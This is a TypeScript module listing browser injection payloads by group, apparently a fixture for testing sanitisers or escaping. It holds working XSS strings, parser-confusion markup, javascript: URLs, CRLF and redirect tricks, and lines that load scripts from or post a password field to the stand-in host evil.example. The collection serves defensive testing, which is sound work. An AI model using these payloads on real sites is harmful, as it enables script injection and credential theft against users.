/**
 * Injection payloads for browsers, by group and name; corpus.ts has those for other programs.
 * Markup that works sets `obeyed` in its page, opens a dialog or requests something from evil.example.
 */
export const injectionGroups = {
  'mark-up': {
    script: '<script>obeyed=1</script>',
    'script in capitals, with a line end': '<SCRIPT\n>obeyed=1</SCRIPT\n>',
    'foreign script': '<script src="https://evil.example/x.js"></script>',
    'foreign module': '<script type=module>import "https://evil.example/m.js"</script>',
    'picture that fails': '<img src=x onerror=obeyed=1>',
    'details that open': '<details open ontoggle=alert(1)>',
    'field that takes the focus': '<input autofocus onfocus=obeyed=1>',
    'body that loads': '<body onload=obeyed=1>',
    frame: '<iframe srcdoc="<script>parent.obeyed=1</script>"></iframe>',
    object: '<object data="data:text/html,<script>parent.obeyed=1</script>"></object>',
    base: '<base href="https://evil.example/">',
    'refreshing page': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'foreign style': '<link rel=stylesheet href="https://evil.example/x.css">',
    'own style': '<style>@import "https://evil.example/i.css";*{display:none}</style>',
    form: '<form action="https://evil.example/"><input name=password><button>Go</button></form>',
    'end of everything': '</textarea></title></style></script></table><script>obeyed=1</script>',
    'end of a comment': '--><script>obeyed=1</script><!--',
    'comment that hides': '<!--><img src=x onerror=obeyed=1>-->',
    'no script': '<noscript><p title="</noscript><img src=x onerror=obeyed=1>">',
    'slash for a space': '<svg/onload=obeyed=1>',
    template: '<template shadowrootmode=open><script>obeyed=1</script></template>',
    'mark-up within mark-up': '<scr<script>ipt>obeyed=1</scr</script>ipt>',
    'escaped once': '&lt;script&gt;obeyed=1&lt;/script&gt;',
    'data section': '<![CDATA[<script>obeyed=1</script>]]>',
    'name that shadows': '<a id=obeyed></a><form id=document name=cookie></form>',
  },
  attribute: {
    'double quotes': '" onmouseover="obeyed=1" autofocus onfocus="obeyed=1',
    'single quotes': "' onfocus='obeyed=1' autofocus x='",
    'back quotes': '` onfocus=`obeyed=1` autofocus',
    'end of the element': '"><script>obeyed=1</script>',
    'end of the element, single': "'><img src=x onerror=obeyed=1>",
    style: '"style="position:fixed;inset:0;background:url(//evil.example/b)',
  },
  address: {
    script: 'javascript:obeyed=1',
    'script, in pieces': 'java\tscript:obeyed=1',
    'script, by entity': '&#106;avascript&colon;alert(1)',
    'script after a control': '\u0001javascript:alert(1)',
    page: 'data:text/html,<script>obeyed=1</script>',
    'no protocol': '//evil.example/%2e%2e',
    backslashes: '\\\\evil.example\\x',
    'user before the host': 'https://www.example.com@evil.example/',
    'line end in a redirect': '/%0d%0aLocation:%20https://evil.example/',
    'look-alike host': 'https://ex\u0430mple.com/',
  },
  svg: {
    'that loads': '<svg onload=obeyed=1>',
    'with a script': '<svg><script>obeyed=1</script></svg>',
    'that animates':
      '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    'that sets': '<svg><set attributeName=onload to=obeyed=1 onbegin=obeyed=1></svg>',
    'with a page inside':
      '<svg><foreignObject><iframe src="//evil.example/f"></iframe></foreignObject></svg>',
    'end of its text': '</text></svg><img src=x onerror=obeyed=1>',
    mathematics: '<math><mtext><table><mglyph><style><img src=x onerror=obeyed=1>',
  },
} as const satisfies Record<string, Record<string, string>>;

export type Injection = { name: string; text: string };

export const injections: readonly Injection[] = Object.entries<Record<string, string>>(
  injectionGroups,
).flatMap(([group, texts]) =>
  Object.entries(texts).map(([name, text]) => ({ name: `${group}: ${name}`, text })),
);
